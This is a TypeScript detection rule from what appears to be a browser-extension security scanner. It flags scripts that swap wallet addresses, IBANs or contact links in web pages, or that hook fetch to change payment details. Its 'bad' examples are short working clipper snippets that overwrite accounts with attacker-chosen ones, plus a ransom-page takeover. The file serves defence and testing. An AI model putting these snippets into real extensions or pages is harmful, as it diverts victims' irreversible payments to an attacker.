import {
  apiPath,
  argOf,
  calleeOf,
  callsNamed,
  functionIndexOf,
  nameOf,
  Op,
  opOf,
  pattern,
  resolve,
  type ScriptFacts,
  WRITE_SIZE,
  writesOf,
  writtenObject,
  writtenPos,
  writtenProperty,
  writtenValue,
} from '../../facts/javascript/query.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { eventOf } from '../../verdict/comesUnasked.ts';
import { checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { tagOf } from './tagOf.ts';
import { isFromServer } from '../../extension/isFromServer.ts';
import { textsOf } from './textsOf.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { first } from '../../facts/first.ts';
import { runsInPages } from './places.ts';
import { addressPatterns } from './walletAddresses.ts';

const ADDRESS =
  /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}|(?:AT|BE|CH|DE|DK|ES|FI|FR|GB|IE|IT|LT|LU|NL|NO|PL|PT|SE|RO|CZ|HU|BG|HR|EE|LV|SK|SI|MT|CY|GR)\d{2}[0-9A-Z]{11,30})$/;

/** Whom somebody writes to or calls. */
const CONTACT = /^(?:mailto|tel|sms):[^*]{5,}$/i;
/** A wallet in markup that takes a page's place. */
const DEMANDS = /\b(?:bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|0x[0-9a-fA-F]{40})\b/;
const PAGE = /^document\.(?:body|documentElement)$/;

/** Who is paid or written to, put by itself into what a page has: into its texts, fields, links and the data of its programs. */
function* writtenPayees({ script, facts, hit }: Judged): Generator<Hit> {
  const isNamed = script.strings.some(
    (text) =>
      text.length < 2000 && (ADDRESS.test(text.replaceAll(' ', '')) || CONTACT.test(text) || DEMANDS.test(text)),
  );
  if (!isNamed) return;
  for (let at = 0, count = 0; at < script.writes.length && count < MOST_WRITES; at += WRITE_SIZE, count++) {
    const object = writtenObject(script, at);
    const value = writtenValue(script, at);
    const call = resolve(script, value);
    const isReplaced =
      opOf(script, call) === Op.call && /^replace(?:All)?$/.test(nameOf(script, calleeOf(script, call)));
    const text = pattern(script, isReplaced ? argOf(script, call, 1) : value);
    const isPayee =
      ADDRESS.test(text.replaceAll(' ', '')) || (writtenProperty(script, at) === 'href' && CONTACT.test(text));
    const isDemand = PAGE.test(apiPath(script, object) ?? '') && DEMANDS.test(text);
    if (!isDemand && (!isPayee || isMade(script, object))) continue;
    const pos = writtenPos(script, at);
    if (eventOf(facts, script, pos) !== undefined || isInHook(script, pos))
      yield hit(value, { evidence: text.slice(0, 160) });
  }
}

/** Whether a place stands in a function that takes the place of one of the page's: `window.fetch = …`. */
const isInHook = (script: ScriptFacts, pos: number): boolean =>
  writesOf(script, 'fetch', 'request', 'send', 'open', 'submit', 'writeText').some(({ value }) => {
    const { start, end } =
      opOf(script, value) === Op.func ? (script.functions[functionIndexOf(script, value)] ?? NONE) : NONE;
    return pos > start && pos < end;
  });
const NONE = { start: 0, end: 0 };

/** Writes of one script that are looked at. */
const MOST_WRITES = 20_000;

/** Whether an object is one that the script makes itself, to show or to keep something. */
const isMade = (script: ScriptFacts, object: number): boolean => {
  const made = resolve(script, object);
  const op = opOf(script, made);
  return (
    tagOf(script, object) !== undefined ||
    op === Op.object ||
    op === Op.create ||
    op === Op.self ||
    op === Op.func ||
    object === 0
  );
};

export const walletAddressReplaced = defineRule({
  id: 'wallet-address-replaced',
  title: 'Replaces wallet addresses or account numbers in web pages',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1565/'],
  why: 'Payments cannot be reversed. Money sent to the address now shown is lost.',
  remedy: 'Never change addresses in pages.',
  givesWayTo: ['wallet-requests-changed'],
  check: checkScripts(function* (judged) {
    const { script, file, facts, hit } = judged;
    if (!runsInPages(facts, file.path)) return;
    yield* writtenPayees(judged);
    const forms = addressPatterns(script);
    const head = forms[0];
    if (head === undefined) return;
    const values = new Set(forms.map((form) => form.value));
    const own = textsOf(script).find(({ text }) => ADDRESS.test(text));
    const writes = writesOf(
      script,
      'innerHTML',
      'textContent',
      'innerText',
      'value',
      'nodeValue',
      'data',
      'outerHTML',
      'src',
    );
    const some = first(writes, 300);
    for (const call of first(callsNamed(script, 'replace', 'replaceAll'), 300)) {
      const origins = backwardSlice(script, call.args[0] ?? 0);
      if (![...values].some((value) => origins.has(value))) continue;
      const written = some.find((write) => isMadeOf(script, write.value, call.value));
      if (written === undefined) continue;
      const foreign = isFromServer(facts, script, call.args[1] ?? 0);
      const named = own !== undefined && isMadeOf(script, call.args[1] ?? 0, own.value);
      if (foreign || named || own !== undefined)
        yield hit(call.value, named || foreign ? {} : { confidence: 'medium' });
    }
    if (own === undefined) return;
    // Tested, then written: `if (FORM.test(field.value)) field.value = MINE`.
    const tested = first(callsNamed(script, 'test', 'match', 'exec'), 1000).some((call) =>
      isMadeOf(script, call.value, values),
    );
    for (const write of tested ? some : [])
      if (isMadeOf(script, write.value, own.value)) yield hit(write.value, { evidence: own.text });
  }),
  examples: {
    bad: [
      contentExample(
        'document.querySelectorAll("td").forEach((n) => { n.textContent = n.textContent.replace(/[A-Z]{2}\\d{2}(?: ?\\d{4}){4,6}/g, "DE89 3704 0044 0532 0130 00"); });',
      ),
      contentExample(
        'setInterval(() => { const i = document.querySelector("input[name=iban]"); if (i?.value.length > 10) i.value = "DE89370400440532013000"; }, 500);',
      ),
      contentExample(
        'document.querySelectorAll("a[href^=mailto]").forEach((a) => { a.href = "mailto:owner@x.example"; });',
      ),
      contentExample(
        'const ask = window.fetch; window.fetch = (to, given) => { const body = JSON.parse(given.body); body.account = "DE89370400440532013000"; given.body = JSON.stringify(body); return ask(to, given); };',
      ),
      contentExample(
        'document.documentElement.innerHTML = "<h1>Your files are locked</h1><p>Send 0.05 to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>";',
      ),
      contentExample(
        'const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; document.body.innerHTML = document.body.innerHTML.replace(/0x[a-fA-F0-9]{40}/g, mine);',
      ),
      contentExample(
        'const mine = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"; const form = /[13][a-km-zA-HJ-NP-Z1-9]{25,34}/; document.querySelectorAll("input").forEach((i) => { if (form.test(i.value)) i.value = mine; });',
      ),
      contentExample(
        'const ours = { DE: "DE89370400440532013000" }; const form = /\\b[A-Z]{2}\\d{2}(?:\\s?[0-9A-Z]{4}){3,7}\\b/g; const swap = (t) => t.replace(form, (m) => ours[m.slice(0, 2)] ?? m); document.querySelectorAll("td").forEach((n) => { n.textContent = swap(n.textContent); });',
      ),
    ],
    good: [
      contentExample(
        'const a = document.createElement("a"); a.href = "mailto:help@tool.example"; const code = document.createElement("code"); code.textContent = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"; const thanks = { iban: "" }; thanks.iban = "DE89370400440532013000"; panel.append(a, code);',
      ),
      contentExample(
        'fill.addEventListener("click", () => { document.querySelector("[name=iban]").value = "DE89370400440532013000"; });',
      ),
      contentExample(
        'const form = /\\b[A-Z]{2}\\d{2}[0-9A-Z]{10,30}\\b/g; const sample = "DE89370400440532013000"; document.querySelectorAll("td").forEach((n) => { for (const m of n.textContent.matchAll(form)) if (m[0] !== sample && !valid(m[0])) n.title = "typing error"; });',
      ),
      contentExample(
        'const form = /0x[a-fA-F0-9]{40}/g; document.body.querySelectorAll("p").forEach((p) => { if (form.test(p.textContent)) p.classList.add("address"); });',
      ),
      contentExample(
        'const zero = "0x0000000000000000000000000000000000000000"; const ok = /^0x[a-fA-F0-9]{40}$/.test(input); show(ok && input !== zero);',
      ),
      contentExample(
        'text.textContent = long.replace(/^(0x[a-fA-F0-9]{4})[a-fA-F0-9]{32}([a-fA-F0-9]{4})$/, "$1…$2");',
      ),
    ],
  },
});
